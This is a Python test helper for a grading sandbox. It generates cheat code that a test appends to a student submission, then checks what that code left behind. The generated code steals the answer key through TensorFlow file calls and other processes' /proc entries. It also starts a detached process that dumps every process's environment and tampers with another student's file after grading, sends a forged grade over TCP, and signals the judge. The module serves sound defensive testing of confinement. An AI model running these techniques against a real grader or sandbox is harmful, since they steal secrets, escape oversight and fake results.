"""Cheats in native code, as source text a student who has read the grader appends to a submission.

None of them raises an audit event the sandbox's Python guard could see:
TensorFlow's C++ file functions, ``/proc`` of the judge, a re-imported
``_posixsubprocess.fork_exec`` that starts a detached process (double fork,
setsid) meant to outlive grading, a TCP connection to a listener on the
host's 127.0.0.1 and a signal to the judge. Only the kernel's confinement
stops them. Each swallows its own failures, as a cheater's code would, so
the honest part still loads.

What they would leave behind if they worked is what :func:`leftovers`
looks for: files in ``outside``, processes whose command line holds
``token``; the tests also check the listener and the judge's SIGUSR1 count.
"""

import os
import signal
import time
from pathlib import Path

import psutil

#: Seconds the detached process waits before it writes (grading is over by then).
LATE_S = 3


def read_the_key(paths):
    """Code defining ``_stolen(name)``: the function ``name`` from the first of ``paths`` it can read natively.

    ``paths`` are Python files or notebooks (their code cells); it also
    looks for them through ``/proc/<pid>/cwd`` and ``/proc/<pid>/root`` of
    every process it can see (the judge's working folder is the checkout).
    """
    return f'''
import json as _json
import os as _os


def _native_read(path):
    import tensorflow as _tf
    for reader in (lambda: _tf.io.gfile.GFile(path, "rb").read(), lambda: _tf.io.read_file(path).numpy()):
        try:
            return reader().decode()
        except Exception:
            pass
    return None


def _candidates():
    paths = {[str(p) for p in paths]!r}
    yield from paths
    try:
        pids = [p for p in _os.listdir("/proc") if p.isdigit()]
    except Exception:
        import tensorflow as _tf
        pids = [p for p in _tf.io.gfile.listdir("/proc") if p.isdigit()]
    for pid in pids:
        for path in paths:
            yield f"/proc/{{pid}}/root{{path}}"
            yield f"/proc/{{pid}}/cwd/solutions/" + _os.path.basename(path)


def _stolen(name):
    import tensorflow as _tf
    try:
        _tf.io.gfile.listdir({str(Path(paths[0]).parent)!r})
        _tf.io.gfile.glob({str(Path(paths[0]).parent / "*")!r})
    except Exception:
        pass
    for path in _candidates():
        text = _native_read(path)
        if not text:
            continue
        namespace = {{}}
        try:
            cells = _json.loads(text)["cells"] if path.endswith(".ipynb") else [{{"cell_type": "code", "source": text}}]
        except Exception:
            continue
        for cell in cells:
            try:
                if cell["cell_type"] == "code":
                    exec("".join(cell["source"]), namespace)
            except Exception:
                pass  # a test cell; the answers are what counts
        if callable(namespace.get(name)):
            return namespace[name]
    return None
'''


def side_effects(outside, token, port=None, judge_pid=None, victim=None):
    """Module-level code that tries to write ``outside``, outlive grading, connect to ``port`` and signal the judge.

    With ``victim`` (another student's file, a verdict), the detached process appends to it once grading is over.
    """
    outside = str(outside)
    tamper = f"echo '# rewritten after grading' >> {victim}; " if victim else ""
    return f'''
import os as _os
import sys as _sys

try:
    import tensorflow as _tf
    _tf.io.write_file({outside + "/tf-write_file.txt"!r}, "written by TensorFlow")
    with _tf.io.gfile.GFile({outside + "/tf-gfile.txt"!r}, "w") as _out:
        _out.write("written by TensorFlow")
except Exception:
    pass
try:
    _sys.modules.pop("_posixsubprocess", None)
    import _posixsubprocess as _ps
    import subprocess as _subprocess  # noqa: F401 - fork_exec needs its helpers
    _late = "sleep {LATE_S}; {tamper}date > {outside}/late.txt; cat /proc/[0-9]*/environ > {outside}/environ.txt # {token}"
    _script = f"setsid sh -c '{{_late}}' &"  # double fork, new session: reparented, out of the sandbox's group
    _args = [[b"/bin/sh", b"-c", _script.encode()], [b"/bin/sh"], True, (), None, None, -1, -1, -1, -1, -1, -1,
             *_os.pipe(), False, True, -1, None, None, None, -1, None]
    for _extra in ([False], []):  # Python 3.11/3.12 take allow_vfork last
        try:
            _ps.fork_exec(*_args, *_extra)
            break
        except TypeError:
            continue
except Exception:
    pass
try:
    import socket as _socket
    if {port!r}:
        _socket.create_connection(("127.0.0.1", {port!r}), timeout=2).sendall(b"forged grade {token}")
except Exception:
    pass
try:
    import signal as _signal
    if {judge_pid!r}:
        _os.kill({judge_pid!r}, _signal.SIGUSR1)
except Exception:
    pass
for _entry in ("environ", "cmdline", "cwd", "fd"):
    try:
        if {judge_pid!r}:
            _target = f"/proc/{judge_pid}/{{_entry}}"
            _data = str(_os.listdir(_target)) if _entry in ("cwd", "fd") else open(_target, "rb").read().decode(errors="replace")
            open({outside + "/proc-"!r} + _entry, "w").write(_data)
    except Exception:
        pass
'''


def leftovers(outside, token):
    """What native cheats left behind: files in ``outside`` and live processes with ``token`` in their command line.

    Waits until a detached process would have written (:data:`LATE_S`).
    """
    time.sleep(LATE_S + 1)
    files = sorted(p.name for p in Path(outside).iterdir()) if Path(outside).exists() else []
    processes = []
    for process in psutil.process_iter(["pid", "cmdline"]):
        if token in " ".join(process.info["cmdline"] or ()):
            processes.append(process.info)
    return files, processes


class SignalCounter:
    """Counts SIGUSR1 sent to this process (the judge) while active."""

    def __init__(self):
        self.count = 0
        self._previous = None

    def __enter__(self):
        self._previous = signal.signal(signal.SIGUSR1, self._handle)
        return self

    def _handle(self, signum, frame):
        self.count += 1

    def __exit__(self, *exc):
        signal.signal(signal.SIGUSR1, self._previous)


def unique_token():
    return f"cvlab-cheat-{os.getpid()}-{time.monotonic_ns()}"
